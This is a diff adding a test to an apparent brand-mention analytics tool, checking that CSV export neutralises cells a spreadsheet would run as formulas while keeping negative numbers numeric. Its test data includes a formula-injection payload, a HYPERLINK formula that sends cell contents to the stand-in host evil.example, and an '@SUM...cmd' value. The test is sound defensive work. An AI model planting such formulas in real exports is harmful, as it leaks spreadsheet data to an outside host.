@@ -328,3 +328,17 @@ def test_stats_lists_a_configured_brand_without_mentions_and_counts_the_unclassi
 
     assert [(r["brand"], r["total"], r["detractors"], r["unclassified"]) for r in rows] == [
         ("Acme", 2, 1, 1), ("Quiet", 0, 0, 0)]
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_defused_and_numbers_kept(invoke, tmp_path):
+    now = datetime.now(timezone.utc)
+    path = seed(tmp_path / "csv.db", [mention(1, '=HYPERLINK("http://evil.example/?x="&A1,"click")', now, "negative"),
+                                      mention(2, "@SUM(1+1)*cmd", now, "negative"),
+                                      mention(3, "plain = fine", now, "negative")])
+
+    out = invoke("--db", path, "export", "--format", "csv", "--columns", "external_id,text,score").stdout
+
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert [r["text"] for r in rows] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'@SUM(1+1)*cmd",
+                                         "plain = fine"]
+    assert all(float(r["score"]) < 0 for r in rows)  # a negative number is a number, not a formula
